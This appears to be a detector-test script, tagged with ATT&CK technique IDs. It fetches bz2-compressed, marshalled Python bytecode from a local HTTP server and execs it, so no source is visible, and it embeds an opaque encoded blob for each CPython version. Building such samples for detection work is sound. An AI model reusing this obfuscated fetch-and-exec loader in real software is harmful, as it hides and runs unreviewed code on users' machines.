# technique: T1059.006 T1105 T1027 T1620
"""Download a marshalled code object (bz2-compressed) and run it (T1059.006, T1105, T1027, T1620).

The server sends bytecode, not source: marshal.dumps of a compiled code
object, bz2-compressed. The script decompresses it, marshal.loads it and
execs the code object. The blob was produced offline, so this process
compiles nothing; the code object names "<frozen zipimport>" as its file. There is no source text anywhere on the client
side, so a source transcript has nothing to show; only the blob's hash.

A good detector raises a high alert: a code object loaded with marshal
from network bytes is executed.
"""
import base64
import bz2
import http.server
import marshal
import sys
import threading
import urllib.request

def serve(files):
    """Our own HTTP server on 127.0.0.1 (port 0) in a thread, serving {path: bytes}."""
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files.get(self.path)
            if body is None:
                self.send_error(404)
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "http://127.0.0.1:%d" % server.server_address[1], server

# bz2(marshal.dumps(code)) for each CPython (bytecode is per version), made
# elsewhere: the client never sees source.
BLOB_B64S = {
    (3, 11): (
        "QlpoOTFBWSZTWcP71tsAANT/9//8Wcd5bzIlPIEMMD//3vFQ1OTkQWgwAHTUQCBsUDABeMyQ"
        "amkNJ6SbSZPFDRvVADQ9QADQBoNAAAAAPCn6kIpom0YQ0mKbU9TT1GygAAAaaDRoAAB6gaGh"
        "6mymgYpMqH6kaAAAADQAaGgGgAAMgMgBtTNQhpPc5FGpC8xoufTPFeiQKecIIWgkNQRcAwCT"
        "BRIiRMSgcAYkM8KkjQNH81pDn8Un2gG5LsCN0Bum+yQBoK6HGEyXclgqMAzLxpASBaQAysMS"
        "X8xsYCGMBIxj5RzMWjliCfxWVsEAII4oo5xrCCEqUiiQGApCrLANwQWTsKgOhXpOepAGKnfA"
        "0y0qYIH5VCtSZ8o6JznSR6P0Z/24QjgW9eaTZF0bEAAg+Lc8orU7WUgN0EhC1lZIFZuazdjw"
        "h28NEXY8mgK61uoxT1SmE4MKSQqT6DOEVVI5FU420EMAr8hEN7InyZLU52q3KB9BUoSPuspo"
        "AHkzTmYeWZqKJiTFXvKp0cLO3QbcKSD5eMw1MVBhN2XobUa43YQcYMoipYBe6Q9Tuy1rlJth"
        "Zf7zgD8UmTt++n7NsqaYoIlf+q/yX5FSEJGcoh5i9ijU6DBnOeNE5Of9VwRupTuKTZ6NpJBc"
        "1JZ9RePDDlsCYzfTaJzWCACnznUdkFYz2v8XckU4UJDD+9bb"
    ),
    (3, 13): (
        "QlpoOTFBWSZTWQfd8ZgAAP//9//92eb57xJnGIkYBDf/3vFg4PrYgGAwAG74KCBIkDABWJZh"
        "FDU0yepqbU/UymjCZPUephA0wBDQA9I0GQDTE0GMhPaIVTymg0wIYgjTRgmABNMTATEYJgAA"
        "CaYTNANEFPUmyj1NGag9QZDQDQAGgGQAAAAAD1G9FFWJSjBg78XTjZoWEuzHA+YBCVMRTMgQ"
        "SZmRE1lelpkU+ecODeUAqRSA79BS90wiUxFJ9JD2gJGrl2E2pUeAaSqwDWDrjDAYbD7o49T6"
        "WGGzERE1cFqwnnY2XLJLBRcKqtxY8OSfAvcI3yJCzGcaCEJGy3wNEvaAzDCENAarZXEVAy5e"
        "YyCIVbVT3JhwGmYPu6dvf7AMLkeTcyV2AdZB+k4Vx69sEECgzVX4g7pPar6jZRZQRROvAQCc"
        "gkmZply0hJ2xpkKS6KEPAdw/Ot/mmIaMmHFWvLMBsQFuAdH6qCQV0Fpol4eSsgw4vzEIIg82"
        "PMgzyKRGNWKh2aA4eJ5JZtclWUHsgRp4NFJ7ABxRCU1pcAYezUSux5apPyRHg7dw32lR/z9t"
        "AIqxa2TsDA03EfLKHuqNEbLCVZ0qGw5YSXd2pcuaIJw9TZJ1pvAiOr6+cXckU4UJAH3fGYA="
    ),
    (3, 14): (
        "QlpoOTFBWSZTWadJJygAAQt/9//93cb9+xQtGKVQA7f/3vFg4PjYgGAwAG34KCBIkDABWNta"
        "EUwo9UZhMmKaAabUNMgbTUGhoAA00ZA0AGBNH6TTIVFMMnqeqep7UmaAIYTCYAENAYAEaYEa"
        "YmANBtUwNT1IGlPFPUPKeoBpppoAAADQAeoAAAAAA8Ufsq67BSTdCgXZKsMCneheERQEByFM"
        "ZQEBRC5AAkU+tIQBPnkUfq8o2wpMqzQE0ixukJ5HbtWYQPSchOdBFoRkDLkgIYbRpCNTgDZD"
        "R4exU0zzIU0lREsjFhXsofcmamDSjARO8RRFIlIGvudiiqjTB8HyOsyaaaQflsPx84SihjLA"
        "HGSz/8GgWEDn5UEyE3SacmiRASArNr6HSDqaTvA42y6iFPtCGi/f+zPmprFRDETEXbhfo3om"
        "8PggspZXX+MonCglC5JWfqlgsZxWZXWEDSYaFU4pLWXxcYHnGPPhTErCka4C9F8zAJB3Mrqj"
        "kC5oqjCcoYxDLSZJBObCYEUH9KsPUitEcekEasviuX5UWhqdBMggBacJMNu2VEANkuFvwMqx"
        "Yarr0Rz99itkePC0TAvf2z0gdvPY0dYCwLOxkbv+xHuruSn7aTUEyXL1SA3EkZqqihQ0v5rE"
        "wC7kinChIU6STlA="
    ),
}
if sys.version_info[:2] not in BLOB_B64S:
    sys.exit(f"no bytecode made for CPython {sys.version_info[0]}.{sys.version_info[1]}")
BLOB_B64 = BLOB_B64S[sys.version_info[:2]]
blob = base64.b64decode(BLOB_B64)
base, server = serve({"/cdn/blob.bin": blob})
code = marshal.loads(bz2.decompress(urllib.request.urlopen(base + "/cdn/blob.bin", timeout=5).read()))
exec(code, {"__name__": "__main__"})
server.shutdown()
